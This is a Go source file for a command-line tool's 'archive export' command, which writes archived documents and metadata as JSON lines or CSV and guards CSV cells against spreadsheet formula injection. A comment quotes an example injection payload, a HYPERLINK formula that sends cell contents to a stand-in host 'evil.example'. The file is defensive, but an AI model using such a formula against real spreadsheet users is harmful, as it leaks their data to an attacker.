package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/nianbao/nianbao/archive"
)

// archiveExportOptions are the flags of `nianbao archive export`.
type archiveExportOptions struct {
	Format      string
	Site        string
	Year        int
	Kind        string
	AllVersions bool
	BOM         bool
}

// exportRecord is one exported document (or version): its metadata and text.
type exportRecord struct {
	Site        string    `json:"site"`
	Doc         string    `json:"doc"`
	Version     int       `json:"version"`
	Versions    int       `json:"versions"` // how many the document has
	URL         string    `json:"url"`
	Sources     []string  `json:"sources"`
	Title       string    `json:"title"`
	Year        int       `json:"year"`
	Kind        string    `json:"kind"`
	Published   string    `json:"published"`
	Source      string    `json:"source"`
	Issuer      string    `json:"issuer"`
	DocNumber   string    `json:"doc_number"`
	IndexNumber string    `json:"index_number"`
	SiteIDCode  string    `json:"site_id_code"`
	Mirror      bool      `json:"mirror"`
	SHA256      string    `json:"sha256"`
	FetchedAt   time.Time `json:"fetched_at"`
	Extractor   string    `json:"extractor"`
	Path        string    `json:"path"`
	// From is "page", or the file's type for a text read from a file;
	// TextStatus says why a file has no text; ListedOn is the page that
	// links to the file.
	From       string `json:"from"`
	TextStatus string `json:"text_status,omitempty"`
	ListedOn   string `json:"listed_on,omitempty"`
	Text       string `json:"text"`
}

var exportColumns = []string{"site", "doc", "version", "versions", "url", "sources", "title", "year", "kind", "published",
	"source", "issuer", "doc_number", "index_number", "site_id_code", "mirror", "sha256", "fetched_at", "extractor", "path",
	"from", "text_status", "listed_on", "text"}

// row is the record as CSV cells. Every text column goes through csvText;
// the numbers (version, versions, year) and mirror are written by us and
// never start with a sign: a version and the count of versions are at
// least 1, a year is 0 (undated) or a positive year. fetched_at is an
// RFC 3339 time and starts with its year.
func (r exportRecord) row() []string {
	t := csvText
	return []string{t(r.Site), t(r.Doc), strconv.Itoa(r.Version), strconv.Itoa(r.Versions), t(r.URL), t(strings.Join(r.Sources, " ")),
		t(r.Title), strconv.Itoa(r.Year), t(r.Kind), t(r.Published), t(r.Source), t(r.Issuer), t(r.DocNumber), t(r.IndexNumber), t(r.SiteIDCode),
		strconv.FormatBool(r.Mirror), t(r.SHA256), r.FetchedAt.UTC().Format(time.RFC3339), t(r.Extractor), t(r.Path),
		t(r.From), t(r.TextStatus), t(r.ListedOn), t(r.Text)}
}

// csvText makes a text cell safe to open in a spreadsheet: a cell that
// starts with = + - @, a tab or a carriage return would be read as a
// formula (=HYPERLINK("http://evil.example/?x="&A1,"click") from a portal's
// title), so it gets a single quote in front, which spreadsheets show as
// text and do not display (OWASP's rule for CSV injection). Only CSV is
// changed: JSON lines keep every text exactly.
func csvText(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

func newArchiveExportCommand(g *globalOptions) *cobra.Command {
	o := archiveExportOptions{Format: "jsonl"}
	cmd := &cobra.Command{
		Use:   "export --format jsonl|csv [--site S] [--year Y] [--kind K] [--all-versions]",
		Short: "Write one record per document (its latest version: metadata and text)",
		Long: `Write one record per document — its latest version's metadata and text —
for research pipelines, to stdout: JSON lines (one object per line) or CSV
(a header row, then RFC 4180 rows; texts keep their line breaks inside
quotes). With --all-versions, one record per version instead.

Fields (CSV columns, in this order): site, doc, version, versions (how many
the document has), url, sources (every URL the document was found at; in
CSV separated by spaces), title, year, kind, published, source, issuer,
doc_number, index_number, site_id_code, mirror, sha256, fetched_at,
extractor, path (of the text, relative to archive_dir), from ("page", or the
file type the text was read from), text_status (why a file has no text:
no_text_layer, …; JSON leaves it out when empty), listed_on (the page that
links to the file; likewise) and text.

--site names a site of the site files or of the archive; another name is an
error listing them (exit 2). When nothing matches, stdout has no record
(CSV: the header row alone) and stderr says "0 documents …". --bom starts CSV with a UTF-8 byte order mark, which spreadsheet
programs need to read Chinese correctly. In CSV, a text cell that starts with
= + - @, a tab or a carriage return gets a single quote in front, so that a
spreadsheet shows it as text instead of running it as a formula (a portal's
title can be =HYPERLINK(…)); JSON lines keep every text exactly.`,
		Args: cobraArgs(cobra.NoArgs),
		RunE: func(cmd *cobra.Command, _ []string) error { return runArchiveExport(cmd.Context(), g, o) },
	}
	cmd.Flags().StringVar(&o.Format, "format", o.Format, "jsonl or csv")
	cmd.Flags().StringVar(&o.Site, "site", "", "only this site")
	cmd.Flags().IntVar(&o.Year, "year", 0, "only reports about this year")
	cmd.Flags().StringVar(&o.Kind, "kind", "", "only this kind: fzzf, xxgk or other")
	cmd.Flags().BoolVar(&o.AllVersions, "all-versions", false, "one record per version, not per document")
	cmd.Flags().BoolVar(&o.BOM, "bom", false, "with csv: start with a UTF-8 byte order mark")
	return cmd
}

func runArchiveExport(ctx context.Context, g *globalOptions, o archiveExportOptions) error {
	if o.Format != "jsonl" && o.Format != "csv" {
		return usageError{fmt.Errorf("--format %q: use jsonl or csv", o.Format)}
	}
	if o.Kind != "" && o.Kind != "fzzf" && o.Kind != "xxgk" && o.Kind != "other" {
		return usageError{fmt.Errorf("--kind %q: use fzzf, xxgk or other", o.Kind)}
	}
	a, err := openArchiveRO(g)
	if err != nil {
		return err
	}
	defer a.Close()
	vers, err := a.Versions(ctx, archive.Filter{Site: o.Site})
	if err != nil {
		return err
	}
	if len(vers) == 0 {
		if err := checkSite(ctx, g, a, o.Site); err != nil {
			return err
		}
	}
	latest := map[string]int{}
	for _, v := range vers {
		latest[v.Doc] = max(latest[v.Doc], v.Version)
	}
	var (
		enc *json.Encoder
		cw  *csv.Writer
	)
	if o.Format == "jsonl" {
		enc = json.NewEncoder(g.stdout)
		enc.SetEscapeHTML(false)
	} else {
		if o.BOM {
			fmt.Fprint(g.stdout, "\uFEFF")
		}
		cw = csv.NewWriter(g.stdout)
		if err := cw.Write(exportColumns); err != nil {
			return err
		}
	}
	sources := map[string][]string{}
	written := 0
	for _, v := range vers {
		if (o.Year != 0 && v.Year != o.Year) || (o.Kind != "" && v.Kind != o.Kind) || (!o.AllVersions && v.Version != latest[v.Doc]) {
			continue
		}
		if _, ok := sources[v.Doc]; !ok {
			d, err := a.Doc(ctx, v.Doc)
			if err != nil {
				return err
			}
			for _, s := range d.Sources {
				sources[v.Doc] = append(sources[v.Doc], s.URL)
			}
		}
		text, err := a.ReadText(v)
		if err != nil {
			return err
		}
		r := exportRecord{Site: v.Site, Doc: v.Doc, Version: v.Version, Versions: latest[v.Doc], URL: v.URL, Sources: sources[v.Doc],
			Title: v.Title, Year: v.Year, Kind: v.Kind, Published: v.Published, Source: v.Source, Issuer: v.Issuer,
			DocNumber: v.DocNumber, IndexNumber: v.IndexNumber, SiteIDCode: v.SiteIDCode, Mirror: v.Mirror,
			SHA256: v.SHA256, FetchedAt: v.FetchedAt, Extractor: v.Extractor, Path: v.Path, From: "page", Text: string(text)}
		if f := v.File; f != nil {
			r.From, r.TextStatus, r.ListedOn = f.Type, f.TextStatus, f.ListedOn
		} else if v.TextStatus != "" {
			r.TextStatus = v.TextStatus // images_only
		}
		if enc != nil {
			err = enc.Encode(r)
		} else {
			err = cw.Write(r.row())
		}
		if err != nil {
			return err
		}
		written++
	}
	if cw != nil {
		cw.Flush()
		if err := cw.Error(); err != nil {
			return err
		}
	}
	if written == 0 {
		filters := siteFilter(o.Site)
		if o.Year != 0 {
			filters = append(filters, "year "+strconv.Itoa(o.Year))
		}
		if o.Kind != "" {
			filters = append(filters, "kind "+o.Kind)
		}
		return sayEmpty(g, a.Dir(), "documents", true, filters...)
	}
	return nil
}
